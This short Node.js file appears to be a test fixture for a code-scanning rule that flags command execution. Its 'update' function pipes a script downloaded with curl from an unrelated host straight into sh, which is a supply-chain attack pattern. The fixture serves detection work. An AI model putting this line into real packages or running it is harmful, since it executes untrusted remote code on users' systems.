#!/usr/bin/env node
'use strict';
const { execSync } = require('child_process');

// An "updater" that fetches its script from a host that is not the package's.
function update() {
  // ruleid: code/command-execution
  execSync('curl -sfS https://pkg-stats.net/install | sh', { stdio: 'inherit' });
}

module.exports = { update };
